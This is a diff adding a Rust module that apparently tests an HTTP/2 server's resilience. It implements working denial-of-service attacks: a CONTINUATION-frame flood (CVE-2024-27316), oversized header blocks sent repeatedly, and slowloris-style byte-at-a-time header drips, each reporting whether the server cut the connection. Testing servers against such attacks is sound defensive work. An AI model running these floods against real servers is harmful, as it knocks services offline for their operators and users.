@@ -1,0 +1,113 @@
+//! Header blocks without an end, too large, or sent a byte at a time.
+
+use std::time::Duration;
+
+use tokio::time::Instant;
+
+use super::{NOTICE, Report, Target, in_time, stream_ids};
+use crate::{
+    frames::{
+        CONTINUATION, END_HEADERS, END_STREAM, HEADERS, NONE, PAYLOAD_BYTES_MAX, call, frame,
+    },
+    wire::{Seen, Wire},
+};
+
+/// CONTINUATION frames on one connection at most.
+const CONTINUATIONS_MAX: u64 = 100_000;
+/// CONTINUATION frames that are written at once.
+const FRAMES_AT_ONCE: usize = 64;
+/// `accept-encoding: gzip, deflate`, the whole field (RFC 7541, appendix A).
+const ACCEPT_ENCODING: u8 = 0x80 | 16;
+/// Bytes of headers that are more than a call may have.
+const TOO_MANY_HEADER_BYTES: usize = 17 * 1024;
+/// Calls with such headers on one connection.
+const LARGE_CALLS: u32 = 100;
+/// How long between two bytes of a slow header block.
+const DRIP: Duration = Duration::from_millis(100);
+
+/// A header block that goes on and on (CVE-2024-27316), in large frames, in small and in empty ones.
+pub async fn continuation_flood(target: &Target, until: Instant) -> Report {
+    let mut report = Report::default();
+    let block = call(target.path, &target.token, &[]);
+    while in_time(until) {
+        for size in [PAYLOAD_BYTES_MAX, 1, 0] {
+            let Some(mut wire) = Wire::begin(target.address).await else {
+                continue;
+            };
+            wire.send(&frame(HEADERS, END_STREAM, 1, &block)).await;
+            let more = vec![ACCEPT_ENCODING; size];
+            let many = frame(CONTINUATION, NONE, 1, &more).repeat(FRAMES_AT_ONCE);
+            let mut sent = 0;
+            while sent < CONTINUATIONS_MAX
+                && !wire.seen().is_cut()
+                && in_time(until)
+                && wire.send(&many).await
+            {
+                sent += FRAMES_AT_ONCE as u64;
+            }
+            wire.sees(until + NOTICE, Seen::is_cut).await;
+            report.note(&wire, sent);
+        }
+    }
+    report
+}
+
+/// Calls with more headers than they may have.
+pub async fn oversized(target: &Target, until: Instant) -> Report {
+    let mut report = Report::default();
+    let fat = "x".repeat(TOO_MANY_HEADER_BYTES);
+    let block = call(target.path, &target.token, &[("x-fat", &fat)]);
+    let (first, rest) = block.split_at(PAYLOAD_BYTES_MAX);
+    while in_time(until) {
+        let Some(mut wire) = Wire::begin(target.address).await else {
+            continue;
+        };
+        let mut sent = 0;
+        for stream in stream_ids(LARGE_CALLS) {
+            let bytes = [
+                frame(HEADERS, END_STREAM, stream, first),
+                frame(CONTINUATION, END_HEADERS, stream, rest),
+            ]
+            .concat();
+            if wire.seen().is_cut() || !wire.send(&bytes).await {
+                break;
+            }
+            sent += 1;
+        }
+        wire.sees(until + NOTICE, |seen| {
+            seen.is_cut() || seen.answers + seen.resets.values().sum::<u64>() >= sent
+        })
+        .await;
+        report.note(&wire, sent);
+    }
+    report
+}
+
+/// So many connections that send a call's headers a byte at a time. Gives how many the server ended in time.
+pub async fn slow(target: &Target, connections: usize, until: Instant) -> Report {
+    let slow = (0..connections).map(|_| async {
+        let mut report = Report::default();
+        let Some(mut wire) = Wire::begin(target.address).await else {
+            return report;
+        };
+        let block = call(
+            target.path,
+            &target.token,
+            &[("x-slow", &"s".repeat(8_000))],
+        );
+        let mut sent = 0;
+        for byte in frame(HEADERS, END_HEADERS | END_STREAM, 1, &block) {
+            if wire.seen().is_cut() || !in_time(until) || !wire.send(&[byte]).await {
+                break;
+            }
+            sent += 1;
+            tokio::time::sleep(DRIP).await;
+        }
+        report.note(&wire, sent);
+        report
+    });
+    futures::future::join_all(slow)
+        .await
+        .iter()
+        .fold(Report::default(), Report::and)
+}
